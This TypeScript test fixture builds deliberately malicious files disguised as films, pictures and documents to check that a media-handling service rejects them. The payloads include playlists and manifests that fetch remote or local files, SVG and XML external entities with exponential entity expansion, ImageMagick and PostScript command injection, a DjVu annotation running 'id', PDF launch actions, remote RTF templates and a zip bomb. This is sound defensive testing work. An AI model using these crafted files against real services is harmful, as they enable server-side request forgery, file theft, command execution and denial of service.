import { gzipSync } from 'node:zlib'
import { zipFile } from '../edition/zip-file.ts'
import { zerosMember } from './bad-archives.ts'
import { type Bait, CONTEXT, type CraftedFile, MEDIA, UNREADABLE, UNSUPPORTED } from './crafted-file.ts'
import { box, film } from './crafted-tables.ts'
import type { Plain } from './plain-pictures.ts'

/** Files that ask whoever opens them to fetch, to read or to run something else. */
export function craftedReferences(plain: Plain, { address, file }: Bait): CraftedFile[] {
  const url = `http://${address}/`
  const playlist = `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1.0,\n${url}a.ts\n#EXTINF:1.0,\nfile://${file}\n#EXTINF:1.0,\nconcat:${url}|file://${file}\n#EXT-X-ENDLIST\n`
  const media: CraftedFile[] = [
    {
      name: 'playlist.avi',
      data: Buffer.from(`#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1.0,\n${url}a.ts\n#EXT-X-ENDLIST\n`),
      why: 'an HLS playlist named as a film',
      fates: [UNSUPPORTED],
    },
    {
      name: 'playlist.mp4',
      data: Buffer.from(`\n  ${playlist}`),
      why: 'the same behind blanks',
      fates: [UNSUPPORTED],
    },
    {
      name: 'playlist-mark.mp4',
      data: Buffer.from(`\ufeff${playlist}`),
      why: 'the same behind a byte order mark',
      fates: [UNSUPPORTED],
    },
    {
      name: 'concat.mp4',
      data: Buffer.from(`ffconcat version 1.0\nfile '${url}a.mp4'\nfile '${file}'\n`),
      why: 'a list of parts for ffmpeg',
      fates: [UNSUPPORTED],
    },
    {
      name: 'concat-bare.avi',
      data: Buffer.from(`file '${url}a.mp4'\nfile '${file}'\n`),
      why: 'the same without its first line',
      fates: [CONTEXT],
    },
    {
      name: 'dash.mp4',
      data: Buffer.from(
        `<?xml version="1.0"?>\n<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><BaseURL>${url}</BaseURL><Period><AdaptationSet mimeType="video/mp4"><Representation id="1"><BaseURL>${url}a.mp4</BaseURL></Representation></AdaptationSet></Period></MPD>\n`,
      ),
      why: 'a DASH manifest named as a film',
      fates: [UNSUPPORTED],
    },
    {
      name: 'session.mp4',
      data: Buffer.from(
        `v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=-\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\nm=video ${address.split(':')[1]} RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\n`,
      ),
      why: 'a session description (SDP) named as a film',
      fates: [CONTEXT],
    },
    {
      name: 'stream.rm',
      data: Buffer.from(`rtsp://${address}/a\nrtmp://${address}/a\n`),
      why: 'addresses of streams',
      fates: [CONTEXT],
    },
    {
      name: 'playlist.asf',
      data: Buffer.from(`<asx version="3.0"><entry><ref href="${url}a.asf"/></entry></asx>\n`),
      why: 'a playlist of Windows Media',
      fates: [CONTEXT],
    },
    {
      name: 'subtitles.avi',
      data: withSubtitles(plain.avi, playlist),
      why: 'a film whose subtitles are an HLS playlist',
      fates: [MEDIA],
    },
    {
      name: 'tagged.mp3',
      data: Buffer.concat([Buffer.from('ID3\x04\0\0\0\0\0\0', 'latin1'), Buffer.from(playlist)]),
      why: 'a playlist behind the tag of a sound',
      fates: [UNREADABLE],
    },
    {
      name: 'reference.mov',
      data: film(
        box(
          'moov',
          box(
            'rmra',
            box('rmda', box('rdrf', Buffer.alloc(4), Buffer.from('url '), length(url), Buffer.from(url))),
          ),
        ),
      ),
      why: 'a QuickTime film that lies elsewhere',
      fates: [UNREADABLE],
    },
    {
      name: 'data-elsewhere.mp4',
      data: film(elsewhere(url)),
      why: 'a film whose samples lie elsewhere',
      fates: [UNREADABLE],
    },
    {
      name: 'transport.ts',
      data: Buffer.from(playlist.padEnd(188 * 4, '#')),
      why: 'a playlist of the length of transport packets',
      fates: [UNSUPPORTED],
    },
  ]
  return [...media, ...drawings(url, file), ...documents(url, file)]
}

function drawings(url: string, file: string): CraftedFile[] {
  const entities = Array.from({ length: 9 }, (_, i) => `<!ENTITY e${i + 1} "${`&e${i};`.repeat(10)}">`).join(
    '',
  )
  const doctype = `<!DOCTYPE svg [<!ENTITY e0 "x"><!ENTITY f SYSTEM "file://${file}"><!ENTITY % p SYSTEM "${url}p.dtd">${entities}]>`
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><text>&e9;&f;</text><image xlink:href="${url}a.png"/><image href="file://${file}"/><script>fetch("${url}")</script></svg>\n`
  return [
    {
      name: 'entities.svg',
      data: Buffer.from(`<?xml version="1.0"?>${doctype}${svg}`),
      why: 'entities that double endlessly and name files',
      fates: [UNSUPPORTED],
    },
    {
      name: 'drawing.png',
      data: Buffer.from(svg),
      why: 'a drawing named as a picture',
      fates: [UNSUPPORTED],
    },
    {
      name: 'commented.svg',
      data: Buffer.from(`<!-- ${'x'.repeat(8_000)} -->${svg}`),
      why: 'a drawing behind a long comment',
      fates: [UNSUPPORTED],
    },
    {
      name: 'drawing-utf16.jpg',
      data: Buffer.concat([Buffer.of(0xff, 0xfe), Buffer.from(svg, 'utf16le')]),
      why: 'a drawing in UTF-16',
      fates: [UNSUPPORTED],
    },
    { name: 'packed.svgz', data: gzipSync(svg), why: 'a packed drawing', fates: [CONTEXT] },
    {
      name: 'vectors.jpg',
      data: Buffer.from(
        `push graphic-context\nviewbox 0 0 640 480\nfill 'url(${url}a.png"|touch "/tmp/x)'\nimage over 0,0 0,0 'msl:${file}'\npop graphic-context\n`,
      ),
      why: "ImageMagick's vector language",
      fates: [CONTEXT],
    },
    {
      name: 'script.png',
      data: Buffer.from(
        `<?xml version="1.0"?>\n<image><read filename="${url}a.png"/><write filename="${file}"/></image>\n`,
      ),
      why: "ImageMagick's script language",
      fates: [CONTEXT],
    },
    {
      name: 'printed.jpg',
      data: Buffer.from(
        `%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(${file}) (r) file 99 string readstring (%pipe%id) (w) file\nshowpage\n`,
      ),
      why: 'PostScript that reads files and runs programs',
      fates: [CONTEXT],
    },
    {
      name: 'printed.eps',
      data: Buffer.from(
        'c5d0d3c6200000001000000000000000000000000000000000000000ffff0000252150532d41646f62652d332e30',
        'hex',
      ),
      why: 'PostScript with the header of DOS',
      fates: [CONTEXT],
    },
    {
      name: 'annotated.jpg',
      data: Buffer.from(
        'AT&TFORM\0\0\0\x2cDJVMDIRM\0\0\0\0ANTa\0\0\0\x18(metadata "\\c{system(q(id))}")',
        'latin1',
      ),
      why: 'a DjVu annotation that runs programs',
      fates: [UNSUPPORTED],
    },
  ]
}

function documents(url: string, file: string): CraftedFile[] {
  const pdf = `%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(${url})>>/AA<</O<</S/Launch/F(${file})>>>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`
  const relation = `<?xml version="1.0"?><Relationships><Relationship Id="r" Type="image" Target="${url}a.png" TargetMode="External"/></Relationships>`
  const types = { name: '[Content_Types].xml', data: Buffer.from('<Types/>') }
  return [
    { name: 'open-action.pdf', data: Buffer.from(pdf), why: 'a PDF that opens an address', fates: [CONTEXT] },
    {
      name: 'document.jpg',
      data: Buffer.from(pdf.replace('1 0 obj', '2 0 obj')),
      why: 'the same named as a picture',
      fates: [CONTEXT],
    },
    {
      name: 'page.jpg',
      data: Buffer.from(`<!doctype html><img src="${url}a.png"><iframe src="file://${file}"></iframe>\n`),
      why: 'a page named as a picture',
      fates: [CONTEXT],
    },
    {
      name: 'external.xml',
      data: Buffer.from(
        `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file://${file}"><!ENTITY y SYSTEM "${url}">]><a>&x;&y;</a>\n`,
      ),
      why: 'XML with external entities',
      fates: [CONTEXT],
    },
    {
      name: 'template.rtf',
      data: Buffer.from(
        `{\\rtf1{\\*\\template ${url}a.dotm}{\\field{\\*\\fldinst INCLUDEPICTURE "${url}a.png"}}}\n`,
      ),
      why: 'a text with a template elsewhere',
      fates: [CONTEXT],
    },
    {
      name: 'external.docx',
      data: zipFile([
        types,
        { name: 'word/_rels/document.xml.rels', data: Buffer.from(relation) },
        { name: 'word/document.xml', data: Buffer.from('<w:document/>') },
      ]),
      why: 'a document with a picture elsewhere',
      fates: [CONTEXT],
    },
    {
      name: 'bomb.docx',
      data: zipFile([types, zerosMember('word/document.xml')]),
      why: 'a document that unpacks to a GiB',
      fates: [CONTEXT],
    },
    {
      name: 'link.url',
      data: Buffer.from(`[InternetShortcut]\nURL=${url}\nIconFile=\\\\${url.slice(7)}a.ico\n`),
      why: 'a shortcut of Windows',
      fates: [CONTEXT],
    },
  ]
}

function length(text: string): Buffer {
  const bytes = Buffer.alloc(4)
  bytes.writeUInt32BE(text.length)
  return bytes
}

/** A track whose data reference is an address. */
function elsewhere(url: string): Buffer {
  const reference = box(
    'dref',
    Buffer.from('0000000000000001', 'hex'),
    box('url ', Buffer.alloc(4), Buffer.from(`${url}\0`)),
  )
  return box('moov', box('trak', box('mdia', box('minf', box('dinf', reference)))))
}

/** An AVI with one more stream: a subtitle file in the form that players take out and open (GAB2). */
function withSubtitles(avi: Uint8Array, text: string): Buffer {
  const film = Buffer.from(avi)
  const name = Buffer.from('a\0', 'utf16le')
  const head = Buffer.alloc(17 + name.length)
  head.write('GAB2\0')
  head.writeUInt16LE(2, 5)
  head.writeUInt32LE(name.length, 7)
  name.copy(head, 11)
  head.writeUInt16LE(4, 11 + name.length)
  head.writeUInt32LE(text.length, 13 + name.length)
  const stream = list(
    'strl',
    chunk('strh', Buffer.concat([Buffer.from('txts'), Buffer.alloc(52)])),
    chunk('strf', Buffer.alloc(4)),
  )
  const headers = film.indexOf('LIST')
  const headersEnd = headers + 8 + film.readUInt32LE(headers + 4)
  const widened = Buffer.concat([film.subarray(headers + 8, headersEnd), stream])
  const movie = film.indexOf('movi', headersEnd) + 4
  const rest = Buffer.concat([
    Buffer.from('movi'),
    chunk('01tx', Buffer.concat([head, Buffer.from(text)])),
    film.subarray(movie),
  ])
  const body = Buffer.concat([Buffer.from('AVI '), chunk('LIST', widened), chunk('LIST', rest)])
  return chunk('RIFF', body)
}

function chunk(type: string, data: Uint8Array): Buffer {
  const size = Buffer.alloc(4)
  size.writeUInt32LE(data.length)
  return Buffer.concat([Buffer.from(type, 'latin1'), size, data, Buffer.alloc(data.length % 2)])
}

function list(form: string, ...chunks: readonly Buffer[]): Buffer {
  return chunk('LIST', Buffer.concat([Buffer.from(form), ...chunks]))
}
